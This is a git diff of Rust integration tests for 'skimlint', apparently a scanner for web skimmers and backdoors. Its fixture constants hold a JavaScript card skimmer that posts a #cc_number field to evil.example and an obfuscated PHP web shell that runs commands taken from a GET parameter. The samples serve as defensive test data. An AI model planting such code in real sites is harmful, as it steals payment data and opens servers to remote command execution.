@@ -1,29 +1,13 @@
 //! Configuration files, inline suppressions, baselines and `skimlint diff`, through the binary.
 
 mod common;
-use common::skimlint;
-use std::path::{Path, PathBuf};
+use common::{run, sarif_schema, skimlint, write};
+use std::path::Path;
 
 use predicates::prelude::*;
 
 const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
 const BACKDOOR_PHP: &str = "<?php\n$f = \"sys\".\"tem\"; $f($_GET[\"c\"]);\n";
-
-fn write(root: &Path, rel: &str, text: &str) {
-    let p = root.join(rel);
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::fs::write(p, text).unwrap();
-}
-
-/// Runs skimlint in `dir`; returns (exit code, stdout, stderr).
-fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
-    let out = skimlint().current_dir(dir).args(args).output().unwrap();
-    (
-        out.status.code().unwrap_or(-1),
-        String::from_utf8(out.stdout).unwrap(),
-        String::from_utf8(out.stderr).unwrap(),
-    )
-}
 
 fn lines_with(text: &str, needle: &str) -> usize {
     text.lines().filter(|l| l.contains(needle)).count()
@@ -166,7 +150,7 @@ fn config_limits_rule_dirs_and_cli_precedence() {
     write(
         root,
         "site/big.js",
-        &format!("{SKIMMER_JS}{}", " ".repeat(4000)),
+        format!("{SKIMMER_JS}{}", " ".repeat(4000)),
     );
     write(
         root,
@@ -229,7 +213,7 @@ fn suppressions_in_each_language_need_a_reason_and_unused_ones_are_reported() {
     write(
         root,
         "a.js",
-        &format!(
+        format!(
             "// skimlint-ignore js/card-data-exfiltration: our own payment iframe, reviewed\n{fetch}\n\n\
              {fetch} // skimlint-ignore js/card-data-exfiltration\n\n\
              /* skimlint-ignore js/eval-of-decoded-string: nothing here */\nvar y = 2;\n"
@@ -243,12 +227,12 @@ fn suppressions_in_each_language_need_a_reason_and_unused_ones_are_reported() {
     write(
         root,
         "page.html",
-        &format!("<p>x</p>\n<!-- skimlint-ignore js/card-data-exfiltration: tested widget -->\n<script>{fetch}</script>\n"),
+        format!("<p>x</p>\n<!-- skimlint-ignore js/card-data-exfiltration: tested widget -->\n<script>{fetch}</script>\n"),
     );
     write(
         root,
         "page.twig",
-        &format!("{{# skimlint-ignore js/card-data-exfiltration: tested widget #}}\n<script>{fetch}</script>\n<script>{fetch}</script>\n"),
+        format!("{{# skimlint-ignore js/card-data-exfiltration: tested widget #}}\n<script>{fetch}</script>\n<script>{fetch}</script>\n"),
     );
     let (code, out, _) = run(root, &["check", ".", "--format", "concise"]);
     assert_eq!(code, 1, "{out}");
@@ -319,22 +303,6 @@ fn suppressions_in_each_language_need_a_reason_and_unused_ones_are_reported() {
     assert!(full.contains("A suppression must name the rules"), "{full}");
 }
 
-fn sarif_schema() -> Option<serde_json::Value> {
-    let home = std::env::var_os("CARGO_HOME")
-        .map(PathBuf::from)
-        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")))?;
-    for index in std::fs::read_dir(home.join("registry").join("src"))
-        .ok()?
-        .flatten()
-    {
-        let p = index.path().join("serde-sarif-0.8.0/src/schema.json");
-        if let Ok(text) = std::fs::read_to_string(&p) {
-            return serde_json::from_str(&text).ok();
-        }
-    }
-    None
-}
-
 #[test]
 fn baseline_hides_accepted_findings_and_shows_new_ones() {
     let dir = tempfile::tempdir().unwrap();
@@ -392,7 +360,7 @@ fn baseline_hides_accepted_findings_and_shows_new_ones() {
     );
     assert_eq!((code, out.as_str()), (0, ""));
     // Lines inserted above a finding do not change its fingerprint; a new finding is shown.
-    write(root, "src/a.js", &format!("// header\n\n{SKIMMER_JS}"));
+    write(root, "src/a.js", format!("// header\n\n{SKIMMER_JS}"));
     write(root, "src/c.js", SKIMMER_JS);
     let (code, out, _) = run(
         root,
@@ -432,13 +400,13 @@ fn diff_reports_only_what_the_new_version_adds() {
     write(
         root,
         "v2/app/a.js",
-        &format!("// v2\n{SKIMMER_JS}{SKIMMER_JS}"),
+        format!("// v2\n{SKIMMER_JS}{SKIMMER_JS}"),
     );
     write(root, "v2/app/b.php", BACKDOOR_PHP);
     write(
         root,
         "v2/app/clean.js",
-        &format!("console.log('hi');\n{SKIMMER_JS}"),
+        format!("console.log('hi');\n{SKIMMER_JS}"),
     );
     let (code, out, _) = run(root, &["diff", "v1", "v2", "--format", "concise"]);
     assert_eq!(code, 1, "{out}");
